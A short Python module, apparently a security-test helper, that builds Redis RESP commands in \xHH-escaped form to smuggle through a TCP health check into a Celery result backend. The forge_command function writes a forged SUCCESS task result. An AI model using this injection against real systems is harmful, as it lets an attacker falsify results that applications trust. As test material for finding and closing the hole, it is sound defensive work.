r"""What a hostile caller sends through the tcp check to read or forge results in the result backend:
Redis commands in RESP, written in the check's `send` syntax (\xHH escapes)."""

from __future__ import annotations

import msgpack


def escaped(data: bytes) -> str:
    r"""`data` in the tcp check's `send` syntax (\xHH for every byte)."""
    return "".join(f"\\x{byte:02x}" for byte in data)


def resp(*args: bytes) -> bytes:
    """One Redis command in RESP."""
    return b"*%d\r\n" % len(args) + b"".join(b"$%d\r\n%s\r\n" % (len(arg), arg) for arg in args)


def forged_meta(task_id: str) -> bytes:
    """A stored SUCCESS for `task_id` as a worker would write it (msgpack), marked as forged."""
    meta = {
        "status": "SUCCESS",
        "result": {"ok": True, "forged": True},
        "task_id": task_id,
        "traceback": None,
        "worker": "attacker",
    }
    return msgpack.packb(meta)


def forge_command(task_id: str, db: str) -> bytes:
    """SELECT the result backend's db, then SET a forged result for `task_id` (expiring in 120 s)."""
    key = f"celery-task-meta-{task_id}".encode()
    return resp(b"SELECT", db.encode()) + resp(b"SET", key, forged_meta(task_id), b"EX", b"120")
